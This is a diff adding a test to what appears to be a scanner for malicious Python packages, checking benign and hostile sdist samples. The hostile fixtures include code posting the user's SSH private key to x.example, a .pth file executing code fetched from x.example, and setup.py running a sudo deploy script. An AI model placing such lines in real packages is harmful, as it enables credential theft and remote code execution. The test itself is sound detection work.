@@ -1139,3 +1139,57 @@ def test_bound_methods_handed_to_threads_run_with_their_caller() -> None:
                                                 "helperlib/grab.py": grabber}))
     steals = [s for s in facts.signals if s.kind == "source.credential-file" and s.file == "helperlib/grab.py"]
     assert steals and all(s.phase == "import" for s in steals), [(s.kind, s.phase) for s in steals]
+
+
+def test_eleventh_held_out_batch_shapes() -> None:
+    """Causes behind the eleventh held-out batch's false positives: an SSH client loading known_hosts
+    (apache-airflow-providers-ssh), a .pth hook that evaluates what the user put in an environment variable
+    (manhole), exec of a version file read through a helper function (pyfcm), CMake's installer fetched
+    from Kitware's releases and run by the build (ntgcalls), and deployment scripts that enable a systemd
+    timer (omnibase-infra)."""
+    ssh = ("import os, paramiko\n\ndef client(host):\n    c = paramiko.SSHClient()\n"
+           "    known_hosts = os.path.expanduser('~/.ssh/known_hosts')\n    c.load_host_keys(known_hosts)\n"
+           "    c.connect(host)\n    return c\n")
+    pth = ("import os, sys;exec('if \"HELPERLIB_HOOK\" in os.environ:\\n try:\\n  from helperlib import install\\n"
+           "  eval(\"install({0[HELPERLIB_HOOK]})\".format(os.environ))\\n except Exception as exc:\\n"
+           "  sys.stderr.write(\"hook failed: %r\\\\n\" % exc)\\n')\n")
+    helper = ("import os\nfrom setuptools import setup\n\ndef read(fname):\n"
+              "    return open(os.path.join(os.path.dirname(__file__), fname)).read()\n\nmeta = {}\n"
+              "exec(read('helperlib/__meta__.py'), meta)\nsetup(name='helperlib', version=meta['__version__'],"
+              " packages=['helperlib'])\n")
+    cmake = ("import platform, subprocess\nfrom pathlib import Path\nfrom urllib.request import urlopen\n"
+             "from setuptools import setup\n\ndef install_cmake(version):\n    prefix = Path('build_tools')\n"
+             "    arch = platform.machine()\n"
+             "    url = f'https://github.com/Kitware/CMake/releases/download/v{version}/cmake-{version}-linux-{arch}.sh'\n"
+             "    script = Path(prefix, 'install_cmake.sh')\n    with urlopen(url) as response:\n"
+             "        with open(script, 'wb') as f:\n            f.write(response.read())\n"
+             "    subprocess.run(['bash', script, '--skip-license', f'--prefix={prefix}'], check=True)\n\n"
+             "install_cmake('3.31.6')\nsetup(name='helperlib', version='0.1', packages=['helperlib'])\n")
+    deploy = ("#!/bin/bash\nset -euo pipefail\nsudo install -m 0644 watchdog.timer /etc/systemd/system/watchdog.timer\n"
+              "sudo systemctl enable --now watchdog.timer\n")
+    base = {"setup.py": _SETUP, "helperlib/__init__.py": "", "helperlib/__meta__.py": "__version__ = '0.1'\n"}
+    cases: list[dict[str, str]] = [
+        {"helperlib/__init__.py": "from . import ssh\n", "helperlib/ssh.py": ssh},
+        {"src/helperlib.pth": pth}, {"setup.py": helper}, {"setup.py": cmake},
+        {"deploy/install-watchdog.sh": deploy},
+    ]
+    for files in cases:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result == "clean", (sorted(files), findings)
+    # sending the user's SSH files, a .pth that evaluates a fetched text, a helper that reads from the
+    # network, a build that fetches its "toolchain" from anywhere else, and a deploy script setup.py runs
+    bad: list[dict[str, str]] = [
+        {"helperlib/__init__.py": "from . import ssh\n",
+         "helperlib/ssh.py": ssh + "\nimport requests\nrequests.post('https://x.example/k', "
+                                   "data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"},
+        {"src/helperlib.pth": "import urllib.request;exec(urllib.request.urlopen('http://x.example/p').read())\n"},
+        {"setup.py": helper.replace("open(os.path.join(os.path.dirname(__file__), fname)).read()",
+                                    "__import__('urllib.request').request.urlopen('http://x.example/' + fname).read()")},
+        {"setup.py": cmake.replace("https://github.com/Kitware/CMake/releases/download/",
+                                   "https://github.com/cmake-mirror/tools/releases/download/")},
+        {"deploy/install-watchdog.sh": deploy,
+         "setup.py": "import subprocess\nsubprocess.call(['bash', 'deploy/install-watchdog.sh'])\n" + _SETUP},
+    ]
+    for files in bad:
+        result, findings = verdict(sdist("helperlib", "0.1", {**base, **files}))
+        assert result != "clean", (sorted(files), findings)
